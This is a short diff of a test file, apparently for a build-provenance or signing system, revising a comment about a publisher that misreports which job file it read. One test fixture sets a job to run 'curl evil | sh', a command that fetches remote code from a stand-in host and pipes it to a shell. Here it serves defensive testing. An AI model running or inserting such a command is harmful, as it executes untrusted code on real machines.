@@ -106,7 +106,7 @@ describe('a pipeline of two job files', () => {
   });
 });
 
-/** What nobody can tell: the publisher signs which file it says it read, and the file is no part of the evidence. */
+/** The file is no part of the evidence: only who has it can tell (`checkJobFile`). */
 describe('a publisher that lies about its job file', () => {
   it('is believed: the jobs of a request are its own word', async () => {
     const { bundle } = await makeProject({ ...allowed, job: { run: ['curl evil | sh'] } });
